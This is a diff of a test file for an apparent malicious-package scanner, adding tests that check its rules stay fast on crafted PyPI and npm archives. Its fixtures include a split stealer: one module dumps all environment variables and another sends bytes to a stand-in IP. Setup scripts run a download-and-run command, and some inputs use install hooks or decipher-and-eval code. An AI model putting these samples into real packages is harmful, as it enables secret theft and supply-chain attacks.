@@ -171,3 +171,70 @@ def test_a_setup_py_joining_thousands_of_long_names_builds_no_megabytes(engine: 
         f"C = f\"{'{A}' * 60000}\"\nimport os\nos.system('{DOWNLOAD_AND_RUN}')\n"
     )
     assert_analysed(engine.analyze(sdist(setup_py=setup_py)))
+
+
+#: The harvesting and sending modules a stealer splits (``cross_module_exfiltration_rule``
+#: reads imports only in packages that have both).
+_COLLECT = "import json, os\n\ndef gather():\n    return json.dumps(dict(os.environ))\n"
+_SEND = (
+    "import socket\n\ndef push(b):\n    socket.create_connection(('192.0.2.1', 80)).sendall(b)\n"
+)
+
+
+@QUADRATIC_GUARD
+def test_a_line_of_dots_after_from_costs_no_minutes(engine: Engine) -> None:
+    """``from`` and dots with no ``import``: dots and names in one class were quadratic."""
+    hostile = "from " + "." * 200_000 + "\n"
+    archive = sdist(
+        {
+            "tidy_strings/__init__.py": hostile + "from . import collect, client\n",
+            "tidy_strings/collect.py": _COLLECT,
+            "tidy_strings/client.py": _SEND,
+        },
+        setup_py=f"import os\nos.system('{DOWNLOAD_AND_RUN}')\n",
+    )
+    assert_analysed(engine.analyze(archive))
+
+
+@QUADRATIC_GUARD
+def test_thousands_of_imported_names_cost_no_minutes(engine: Engine) -> None:
+    """Each imported name searched the whole module for its calls (254 s at 20,000)."""
+    wire = "".join(f"from .collect import f{i}\n" for i in range(20_000)) + "f1()\n"
+    archive = sdist(
+        {
+            "tidy_strings/__init__.py": wire,
+            "tidy_strings/collect.py": _COLLECT,
+            "tidy_strings/client.py": _SEND,
+        },
+        setup_py=f"import os\nos.system('{DOWNLOAD_AND_RUN}')\n",
+    )
+    assert_analysed(engine.analyze(archive))
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "createDecipher(" * 65_536,  # each call read the 4 KiB before it for its function
+        "createDecipheriv(a);\n"  # thousands of names, each tried at every comma of a runner
+        + "".join(f"v{i} = d.update(x);\n" for i in range(10_000))
+        + ("eval(" + "," * 199 + "\n") * 4_000,
+        "createDecipheriv(a);\n// " + "eval(a.update( " * 250_000,  # comments read back each time
+    ],
+    ids=["decipher calls", "held names", "commented runners"],
+)
+@QUADRATIC_GUARD
+def test_files_crafted_against_the_decipher_rule_cost_no_minutes(
+    engine: Engine, script: str
+) -> None:
+    archive = npm_tarball({"index.js": script}, scripts=HOOK)
+    assert_analysed(engine.analyze(archive))
+
+
+@QUADRATIC_GUARD
+def test_thousands_of_pictures_with_tails_cost_no_minutes(engine: Engine) -> None:
+    """Every carrier's name was searched for in every code file, one pass each."""
+    picture = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\x00IEND\xaeB`\x82" + b"x" * 64
+    pictures = {f"img/p{i}.png": picture for i in range(3_000)}
+    code = "const f = (a) => a + 1;\n" * 700_000
+    archive = npm_tarball({**pictures, "index.js": code}, scripts=HOOK)
+    assert_analysed(engine.analyze(archive))
